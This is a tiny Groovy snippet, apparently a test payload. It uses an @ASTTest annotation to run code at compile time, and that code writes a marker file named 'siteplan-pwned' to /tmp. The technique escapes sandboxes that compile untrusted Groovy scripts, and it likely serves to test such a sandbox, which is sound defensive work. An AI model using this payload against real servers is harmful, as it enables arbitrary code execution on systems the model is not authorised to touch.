// Runs code inside the compiler.
@groovy.transform.ASTTest(value = { new File('/tmp/siteplan-pwned').text = 'x' })
def x = 1
